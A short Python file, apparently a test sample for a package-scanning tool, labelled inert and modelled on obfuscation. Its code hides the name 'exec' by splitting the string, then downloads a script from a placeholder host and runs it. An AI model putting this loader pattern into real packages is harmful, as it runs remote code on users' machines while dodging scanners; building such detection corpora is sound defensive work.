# pkgguard corpus 471 (indirection), modelled on [obfuscation]; inert, never run.
import builtins
from urllib.request import urlopen

_run = builtins.__dict__.get("ex" + "ec")
_run(urlopen("https://plugins.example/loader.py", timeout=5).read().decode())
